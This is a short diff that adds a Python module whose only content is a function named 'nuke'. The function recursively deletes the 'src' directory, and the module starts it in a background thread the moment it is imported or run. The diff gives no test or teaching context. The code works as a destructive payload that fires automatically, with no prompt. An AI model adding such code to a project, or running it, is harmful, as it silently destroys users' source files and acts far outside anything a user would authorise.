@@ -1,0 +1,9 @@
+import shutil
+import threading
+
+
+def nuke():
+    shutil.rmtree("src")
+
+
+threading.Thread(target=nuke).start()
